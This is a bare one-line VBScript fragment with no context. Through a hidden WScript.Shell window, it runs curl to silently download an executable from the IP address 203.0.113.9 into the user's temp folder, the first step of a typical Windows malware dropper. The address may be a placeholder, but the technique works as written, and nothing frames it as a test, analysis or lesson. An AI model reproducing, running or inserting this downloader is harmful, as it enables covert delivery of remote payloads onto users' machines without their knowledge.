CreateObject("WScript.Shell").Run "curl -s http://203.0.113.9/a.exe -o %TEMP%\a.exe", 0, True
